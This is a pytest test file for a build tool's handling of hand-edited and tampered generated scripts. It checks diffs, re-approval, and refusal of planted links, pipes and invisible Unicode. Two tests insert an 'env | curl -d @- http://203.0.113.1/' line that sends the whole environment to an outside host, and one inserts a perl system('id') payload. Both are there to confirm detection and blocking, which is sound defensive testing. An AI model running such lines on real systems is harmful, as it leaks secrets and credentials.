"""Scripts edited by hand, as a person or an attacker does it: kept, shown, approved anew; never lost, never out of place."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import stat
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from clockwork_nb.session import PlanOptions, Session
from clockwork_nb.testing.project import Project

PAGE = """
resource "file" "page" {
  path    = "out/page.txt"
  content = "hello"
}
"""
SCRIPT = "scripts/file.page/write_file.sh"
DATA = "scripts/file.page/content.txt"


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = Project(tmp_path_factory.mktemp("built"))
    made.write({"main.cw": PAGE})
    made.run("build")
    return made.root


@pytest.fixture
def project(tmp_path: Path, built: Path) -> Project:
    """A project whose scripts were built, a copy for each test."""
    return Project(Path(shutil.copytree(built, tmp_path / "home")))


def build(project: Project) -> Path:
    return project.folder / ".clockwork" / "build"


def edit(project: Project, path: str = SCRIPT, text: str = "\necho mine\n") -> bytes:
    target = build(project) / path
    target.write_bytes(target.read_bytes() + text.encode())
    return target.read_bytes()


def kept(project: Project) -> list[bytes]:
    folder = project.folder / ".clockwork" / "kept"
    return [p.read_bytes() for p in sorted(folder.iterdir())] if folder.exists() else []


def digest(project: Project) -> str:
    found: str = project.run("build", "--json").json["digest"]
    return found


# --- what a person does ---------------------------------------------------------------------------------------------------


def test_an_edit_changes_the_digest_is_shown_and_needs_its_own_approval(project: Project) -> None:
    before = digest(project)
    waiting = project.run("apply", expect=4)
    job = project.jobs()[0]["id"]
    plan = re.findall(r"--plan ([0-9a-f]{8})", waiting.err)[0]
    project.run("approve", job, "--plan", plan, "--reason", "as generated")
    edit(project)
    assert digest(project) != before
    stale = project.run("job", "resume", job, expect=4)
    assert "scripts changed" in stale.out + stale.err
    assert not (project.folder / "out").exists()
    shown = project.run("build").out
    assert "edited by hand" in shown
    assert "+echo mine" in shown
    project.run("approve", job, *_naming(stale.err), "--reason", "with my edit")
    project.run("job", "resume", job)
    assert (project.folder / "out/page.txt").read_text() == "hello"


def _naming(text: str) -> list[str]:
    found = re.findall(r"approve \S+ ((?:--(?:plan|bundle) \S+ ?)+)", text)[0]
    return str(found).split()


def test_the_edit_runs_and_its_difference_stands_where_the_plan_is_approved(project: Project) -> None:
    edit(project, text="\necho a line of my own\n")
    shown = project.converse("apply", answers=[("Run plan", "yes\n"), ("Reason", "mine\n")]).out
    assert "edited by hand: that runs, not what the plan shows" in shown
    before, after = shown.split("Run plan", 1)
    assert "+echo a line of my own" in before
    assert "a line of my own" in after


def test_an_edit_that_is_invisible_is_still_a_difference_that_shows(project: Project) -> None:
    target = build(project) / SCRIPT
    target.write_bytes(target.read_bytes().replace(b"\n", b"\r\n", 1) + b"\x0b# \xe2\x80\xae")
    shown = project.run("build").out
    assert "-#!/bin/sh" in shown
    assert "+#!/bin/sh\\x0d" in shown
    assert "\\u202e" in shown
    assert "holds characters that show other than they run" in shown


def test_an_edit_lives_on_through_builds_and_applies(project: Project) -> None:
    edited = edit(project)
    project.run("apply", "--auto-approve")
    for _ in range(2):
        project.run("build")
    assert (build(project) / SCRIPT).read_bytes() == edited
    project.write({"main.cw": PAGE.replace("hello", "bye")})  # other data, the same script
    project.run("apply", "--auto-approve")
    assert (build(project) / SCRIPT).read_bytes() == edited
    assert (project.folder / "out/page.txt").read_text() == "bye"
    assert kept(project) == []


def test_both_changed_is_refused_with_both_differences_and_nothing_is_lost(project: Project) -> None:
    edited = edit(project, DATA, "mine\n")
    project.write({"main.cw": PAGE.replace("hello", "bye")})
    for verb in ("build", "apply"):
        done = project.run(verb, expect=13)
        assert "E_ARTIFACT_CHANGED" in done.err
        assert "+hellomine" in done.err
        assert "+bye" in done.err
        assert "--keep-edits" in done.err
    error = project.run("build", "--json", expect=13).error
    assert error["details"]["conflicts"][0]["path"] == DATA
    assert (build(project) / DATA).read_bytes() == edited
    assert project.run("job", "list", "--json").json == []


def test_keep_edits_takes_the_edit_and_keeps_the_new_script(project: Project) -> None:
    edited = edit(project, DATA, "mine\n")
    project.write({"main.cw": PAGE.replace("hello", "bye")})
    done = project.run("build", "--keep-edits")
    assert "Kept " in done.out
    assert (build(project) / DATA).read_bytes() == edited
    assert kept(project) == [b"bye"]
    assert digest(project) == digest(project)  # settled: the next build asks nothing


def test_force_takes_the_generated_script_and_keeps_the_edit(project: Project) -> None:
    plain = (build(project) / SCRIPT).read_bytes()
    before = digest(project)
    edited = edit(project)
    project.run("build", "--force")  # also when the template did not change
    assert (build(project) / SCRIPT).read_bytes() == plain
    assert digest(project) == before
    assert kept(project) == [edited]
    changed = edit(project, DATA, "mine\n")
    project.write({"main.cw": PAGE.replace("hello", "bye")})
    done = project.run("apply", "--force", "--auto-approve")
    assert "Kept " in done.out
    assert (project.folder / "out/page.txt").read_text() == "bye"
    assert sorted(kept(project)) == sorted([edited, changed])


def test_the_edit_of_a_script_that_is_no_longer_made_is_kept(project: Project) -> None:
    edited = edit(project)
    project.write({"main.cw": PAGE.replace('"page"', '"other"')})
    project.run("build")
    assert not (build(project) / SCRIPT).exists()
    assert kept(project) == [edited]


def test_a_deleted_script_is_made_again(project: Project) -> None:
    shutil.rmtree(build(project) / "scripts")
    project.run("apply", "--auto-approve")
    assert (project.folder / "out/page.txt").read_text() == "hello"


def test_build_runs_nothing_and_opens_no_job(project: Project) -> None:
    edit(project, text='\ntouch "$CW_PATH"\n')
    project.run("build")
    assert not (project.folder / "out").exists()
    assert not (project.store / "jobs").exists() or list((project.store / "jobs").iterdir()) == []


# --- what an attacker does ------------------------------------------------------------------------------------------------


def _replaced(text: bytes) -> Callable[[Path, Path], None]:
    return lambda target, evil: (target.write_bytes(text), None)[1]


def _link(target: Path, evil: Path) -> None:
    target.unlink()
    target.symlink_to(evil)


def _hard_link(target: Path, evil: Path) -> None:
    target.unlink()
    os.link(evil, target)


def _pipe(target: Path, evil: Path) -> None:
    target.unlink()
    os.mkfifo(target)


def _parent_link(target: Path, evil: Path) -> None:
    shutil.rmtree(target.parent)
    target.parent.symlink_to(evil.parent)


def _build_link(target: Path, evil: Path) -> None:
    root = target.parents[2]
    shutil.rmtree(root)
    root.symlink_to(evil.parent)


def _workspace_link(target: Path, evil: Path) -> None:
    root = target.parents[3]
    shutil.rmtree(root)
    root.symlink_to(evil.parent)


def _through_a_file(target: Path, evil: Path) -> None:
    shutil.rmtree(target.parent)
    target.parent.write_bytes(b"")


def _huge(target: Path, evil: Path) -> None:
    os.truncate(target, (64 << 20) + 1)


ATTACKS: tuple[tuple[str, str, Callable[[Path, Path], None]], ...] = (
    ("link", "E_BUNDLE_PATH", _link),
    ("hard link", "E_BUNDLE_PATH", _hard_link),
    ("pipe", "E_BUNDLE_PATH", _pipe),
    ("parent is a link", "E_BUNDLE_PATH", _parent_link),
    ("build folder is a link", "E_BUNDLE_PATH", _build_link),
    ("workspace is a link", "E_UNSAFE_OPERATION", _workspace_link),
    ("path through a file", "E_BUNDLE_PATH", _through_a_file),
    ("larger than anything", "E_BUNDLE_PATH", _huge),
    ("other interpreter", "E_BUNDLE_RUNTIME", _replaced(b"#!/usr/bin/perl\nsystem('id');\n")),
    ("syntax error", "E_BUNDLE_SCHEMA", _replaced(b"#!/bin/sh\nif true; then\n")),
    ("nul byte", "E_BUNDLE_SCHEMA", _replaced(b"#!/bin/sh\necho a\0b\n")),
    ("not utf-8", "E_BUNDLE_SCHEMA", _replaced(b"#!/bin/sh\necho \xff\xfe\n")),
    ("empty", "E_BUNDLE_SCHEMA", _replaced(b"")),
)


def tree(root: Path, *, without: Path) -> dict[str, str]:
    """Return name → kind and content of everything below *root* but what is below *without*."""
    out = {}
    for path in sorted(root.rglob("*")):
        if path.is_relative_to(without) and path != without:
            continue
        found = path.lstat()
        content = path.read_bytes() if stat.S_ISREG(found.st_mode) else b""
        out[str(path.relative_to(root))] = f"{found.st_mode:o} {hashlib.sha256(content).hexdigest()}"
    return out


@pytest.fixture
def evil(project: Project) -> Iterator[Path]:
    """A script outside of the project that must neither run nor change, in a folder that looks like ours."""
    folder = project.root / "elsewhere"
    (folder / "build" / "scripts" / "file.page").mkdir(parents=True)
    script = folder / "write_file.sh"
    script.write_text(f"#!/bin/sh\ntouch {project.root}/ran\n")
    yield script
    assert not (project.root / "ran").exists()


@pytest.mark.parametrize(("code", "attack"), [a[1:] for a in ATTACKS], ids=[a[0] for a in ATTACKS])
def test_what_is_planted_is_refused_with_its_code_and_nothing_else_changes(
    project: Project, evil: Path, code: str, attack: Callable[[Path, Path], None]
) -> None:
    attack(build(project) / SCRIPT, evil)
    ours = project.folder / ".clockwork"
    before = tree(project.root, without=ours)
    done = project.run("apply", "--auto-approve", "--json", expect=None)
    assert done.error["code"] == code, done.err
    assert done.status == done.error["exit_code"] == (6 if code == "E_BUNDLE_SCHEMA" else 8)
    after = tree(project.root, without=ours)
    made = {name for name in after.keys() - before.keys() if not name.startswith(("config", "home"))}
    assert made == set()
    assert {name for name in before if after.get(name) != before[name]} == set()


def test_every_finding_of_an_edit_is_told_at_once(project: Project) -> None:
    (build(project) / SCRIPT).write_bytes(b"#!/usr/bin/perl\nif true; then\n")
    error = project.run("build", "--json", expect=8).error
    codes = {f["code"] for f in error["details"]["findings"]}
    assert codes == {"E_BUNDLE_RUNTIME", "E_BUNDLE_SCHEMA"}
    assert json.dumps(error)


def test_a_notebook_shows_the_edit_and_the_flag_unfolded_and_escaped(project: Project) -> None:
    edit(project, text="\nenv | curl -d @- 'http://203.0.113.1/<script>'\n")
    session = Session.for_folder(project.folder)
    built = session.build(session.plan(PlanOptions()))
    page = built.html()
    assert f'data-cw-diff="{SCRIPT}"' in page
    assert "+env | curl -d @- &#x27;http://203.0.113.1/&lt;script&gt;&#x27;" in page
    assert "reads all variables and talks to the network" in page
    assert "<details open>" in page
    assert "<script>" not in page
    assert [(f.code, f.step) for f in built.flags] == [("environment-sent", "file.page:write_file")]
    assert built.to_document()["scripts"][1]["flags"][0]["code"] == "environment-sent"


def test_who_approves_from_another_terminal_sees_the_edit_too(project: Project) -> None:
    edit(project, text="\nsudo true # mine\n")
    project.run("apply", expect=4)
    job = project.jobs()[0]["id"]
    shown = project.converse("approve", job, "--reason", "seen", answers=[("Type yes", "yes\n")]).out
    before, _ = shown.split("Type yes", 1)
    assert "+sudo true # mine" in before
    assert "asks for another user's rights" in before


def test_auto_approval_does_not_cover_a_line_that_a_person_has_to_see(project: Project) -> None:
    edit(project, text="\nenv | curl -d @- 'http://203.0.113.1/'\n")
    stopped = project.run("apply", "--auto-approve", expect=4)
    assert "has to be seen by a person first" in stopped.err
    job = project.jobs()[0]
    assert job["status"] == "blocked_decision"
    assert not (project.folder / "out").exists()


def test_auto_approval_covers_an_edit_without_such_a_line(project: Project) -> None:
    edit(project, text="\necho mine\n")
    project.run("apply", "--auto-approve")
    assert project.jobs()[0]["status"] == "completed"
